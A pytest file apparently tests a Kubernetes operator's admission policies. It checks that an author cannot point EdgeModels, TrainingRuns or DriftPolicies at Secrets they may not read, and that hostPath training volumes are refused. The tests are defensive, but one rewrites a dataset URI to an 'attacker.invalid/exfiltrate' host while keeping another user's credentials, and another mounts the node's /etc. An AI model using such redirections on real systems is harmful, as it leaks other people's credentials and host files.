"""The chart's admission policies on a real API server: a user who may write EdgeModels
but not read a Secret cannot make the operator use it, and training volumes outside the
allow-list are refused. The policies are rendered from the chart for a release of this
test's own, bound to this test's namespace only, and removed at the end."""

from __future__ import annotations

import json
import subprocess
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from kubernetes import client

from support.cluster import ClusterHandle
from support.objects import drift_policy, hermetic_edge_model, training_run
from support.wait import wait_for

REPO = Path(__file__).resolve().parents[2]
CHART = REPO / "charts" / "edgeml"
USER = "alice"
HERS = "alice-dataset-token"
OTHERS = "ops-mlflow-credentials"


def _tool(cluster: ClusterHandle, name: str) -> str:
    from localcluster.build import binary
    from localcluster.settings import Settings

    return str(binary(cluster.settings or Settings(), name))


@dataclass
class Kubectl:
    binary: str
    kubeconfig: str
    namespace: str

    def run(
        self, *argv: str, obj: Any = None, as_user: bool = True
    ) -> subprocess.CompletedProcess[str]:
        who = ["--as", USER] if as_user else []
        return subprocess.run(
            [self.binary, "--kubeconfig", self.kubeconfig, "-n", self.namespace, *who, *argv],
            input=None if obj is None else json.dumps(obj),
            capture_output=True,
            text=True,
            check=False,
        )

    def create(self, obj: dict[str, Any], *extra: str) -> subprocess.CompletedProcess[str]:
        return self.run("create", "-f", "-", *extra, obj=obj)

    def replace(self, obj: dict[str, Any]) -> subprocess.CompletedProcess[str]:
        return self.run("replace", "-f", "-", obj=obj)

    def get(self, kind: str, name: str) -> dict[str, Any]:
        got = self.run("get", kind, name, "-o", "json", as_user=False)
        assert got.returncode == 0, got.stderr
        return json.loads(got.stdout)  # type: ignore[no-any-return]


def _http_model(secret: str, name: str = "vibration", **spec: Any) -> dict[str, Any]:
    dataset = {"uri": "https://data.invalid/v.csv", "target": "label",
               "credentialsSecretRef": {"name": secret, "key": "token"}}  # fmt: skip
    return hermetic_edge_model(name, training={"dataset": dataset}, **spec)


def _s3_dataset(secret: str) -> dict[str, Any]:
    return {"uri": "s3://bucket/v.csv", "target": "label",
            "s3": {"credentialsSecretRef": {"name": secret}}}  # fmt: skip


def _names_others(policy: str) -> dict[str, Any]:
    """An object of the kind `policy` checks that names a Secret USER may not get."""
    if policy.endswith("-trainingrun-references"):
        return training_run(overrides={"dataset": _s3_dataset(OTHERS)})
    if policy.endswith("-driftpolicy-references"):
        return drift_policy(notify=[{"name": "ops", "secretRef": {"name": OTHERS}}])
    assert policy.endswith("-edgemodel-references"), policy
    return _http_model(OTHERS)


@pytest.fixture
def kubectl(
    cluster: ClusterHandle, crds: list[str], core: client.CoreV1Api, namespace: str
) -> Iterator[Kubectl]:
    """The policies of a release named after the test, bound to its namespace; USER may
    write the four kinds there and get the one Secret HERS."""
    k = Kubectl(_tool(cluster, "kubectl"), cluster.kubeconfig, namespace)
    release = f"vap-{uuid.uuid4().hex[:6]}"
    rendered = subprocess.run(
        [_tool(cluster, "helm"), "template", release, str(CHART), "--namespace", namespace,
         "--kube-version", "1.35.4", "--set", f"watchNamespaces={{{namespace}}}",
         "-s", "templates/admission-policy.yaml"],
        capture_output=True, text=True, check=True,
    ).stdout  # fmt: skip
    docs = [d for d in yaml.safe_load_all(rendered) if d]
    for name in (HERS, OTHERS):
        core.create_namespaced_secret(namespace, {"metadata": {"name": name},
                                                  "stringData": {"token": "t"}})  # fmt: skip
    rbac = [
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
         "metadata": {"name": "author"},
         "rules": [{"apiGroups": ["edgeml.io"],
                    "resources": ["edgemodels", "trainingruns", "driftpolicies"],
                    "verbs": ["get", "create", "update", "patch"]},
                   {"apiGroups": [""], "resources": ["secrets"], "resourceNames": [HERS],
                    "verbs": ["get"]}]},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
         "metadata": {"name": "author"},
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "author"},
         "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": USER}]},
    ]  # fmt: skip
    applied = k.run("apply", "-f", "-", obj={"apiVersion": "v1", "kind": "List",
                                             "items": [*docs, *rbac]}, as_user=False)  # fmt: skip
    assert applied.returncode == 0, applied.stderr
    try:
        policies = [d["metadata"]["name"] for d in docs if d["kind"] == "ValidatingAdmissionPolicy"]
        for name in policies:
            status = wait_for(
                lambda name=name: k.get("validatingadmissionpolicy", name).get("status") or {},
                lambda s: s.get("observedGeneration") == 1,
                timeout=30,
                what=f"{name} to be type-checked",
            )
            # Every expression type-checks against the CRDs' schemas.
            assert status.get("typeChecking", {}).get("expressionWarnings") is None, status
        # Bindings take effect a moment after they are created: wait for each kind to be
        # refused. The API server names only the first policy that refuses, which may be
        # another release's (a cluster-wide install, or one the previous test deleted a
        # moment ago): a test that needs this release's own policy waits for its effect.
        for name in policies:
            probe = _names_others(name)
            wait_for(
                lambda probe=probe: k.create(probe, "--dry-run=server"),
                lambda r: r.returncode != 0 and "may not get every Secret" in r.stderr,
                timeout=30,
                what=f"a {probe['kind']} naming a Secret the user may not get to be refused",
            )
        yield k
    finally:
        cluster_scoped = [f"{d['kind'].lower()}/{d['metadata']['name']}" for d in docs]
        k.run("delete", "--ignore-not-found", *cluster_scoped, as_user=False)


def test_a_secret_the_author_may_not_get_is_refused_and_one_they_may_is_accepted(
    kubectl: Kubectl,
) -> None:
    refused = kubectl.create(_http_model(OTHERS))
    assert refused.returncode != 0
    assert (
        f"{USER} may not get every Secret the spec names ({OTHERS}) in namespace "
        f"{kubectl.namespace}: the operator would hand them to a training Job or a request"
    ) in refused.stderr
    accepted = kubectl.create(_http_model(HERS))
    assert accepted.returncode == 0, accepted.stderr


def test_every_place_a_spec_names_a_secret_is_checked(kubectl: Kubectl) -> None:
    registry = {"registeredModel": "m", "credentialsSecretRef": {"name": OTHERS}}
    s3 = _s3_dataset(OTHERS)
    volume = {"volumes": [{"name": "creds", "secret": {"secretName": OTHERS}}],
              "volumeMounts": [{"name": "creds", "mountPath": "/creds"}]}  # fmt: skip
    notify = [{"name": "ops", "secretRef": {"name": OTHERS}}]
    for obj in (
        _http_model(HERS, registry=registry),
        hermetic_edge_model(training={"dataset": s3}),
        hermetic_edge_model(training=volume),
        training_run(overrides={"dataset": s3}),
        drift_policy(notify=notify),
        drift_policy(retraining={"overrides": {"dataset": s3}}),
    ):
        refused = kubectl.create(obj, "--dry-run=server")
        assert refused.returncode != 0, f"{obj['kind']} accepted: {obj['spec']}"
        assert f"{USER} may not get every Secret the spec names (" in refused.stderr
        assert OTHERS in refused.stderr


def test_keeping_someone_elses_secret_while_changing_the_spec_is_refused(
    kubectl: Kubectl,
) -> None:
    """The attack on update: the admin set the credentials, the author points the
    dataset elsewhere. Metadata-only writes (the operator's, approvals) still pass."""
    created = kubectl.run("create", "-f", "-", obj=_http_model(OTHERS), as_user=False)
    assert created.returncode == 0, created.stderr
    model = kubectl.get("edgemodel", "vibration")
    model["spec"]["training"]["dataset"]["uri"] = "https://attacker.invalid/exfiltrate"
    # Unconditional (no resourceVersion): an operator writing status meanwhile is a 409
    # that would hide the policy's answer.
    model["metadata"].pop("resourceVersion", None)
    refused = kubectl.replace(model)
    assert refused.returncode != 0
    assert f"{USER} may not get every Secret the spec names ({OTHERS})" in refused.stderr
    annotated = kubectl.run("annotate", "edgemodel", "vibration", "edgeml.io/note=checked")
    assert annotated.returncode == 0, annotated.stderr
    assert kubectl.get("edgemodel", "vibration")["spec"]["training"]["dataset"]["uri"] == (
        "https://data.invalid/v.csv"
    )


def test_a_training_volume_outside_the_allow_list_is_refused(kubectl: Kubectl) -> None:
    hostpath = {"volumes": [{"name": "node", "hostPath": {"path": "/etc"}}],
                "volumeMounts": [{"name": "node", "mountPath": "/data"}]}  # fmt: skip
    # Only policies with the default allow-list refuse a hostPath (the local install
    # allows it): wait for this release's own to be in force.
    wait_for(
        lambda: kubectl.create(hermetic_edge_model(training=hostpath), "--dry-run=server"),
        lambda r: r.returncode != 0,
        timeout=30,
        what="this release's EdgeModel policy to refuse a hostPath volume",
    )
    refused = kubectl.create(hermetic_edge_model(training=hostpath))
    assert refused.returncode != 0
    assert (
        "spec.training.volumes: node uses a volume type training Jobs may not mount; allowed: "
        "persistentVolumeClaim, configMap, secret, emptyDir, csi (Helm value "
        "training.allowedVolumeTypes)"
    ) in refused.stderr
    scratch = {"volumes": [{"name": "scratch", "emptyDir": {}}],
               "volumeMounts": [{"name": "scratch", "mountPath": "/scratch"}]}  # fmt: skip
    accepted = kubectl.create(hermetic_edge_model(training=scratch))
    assert accepted.returncode == 0, accepted.stderr
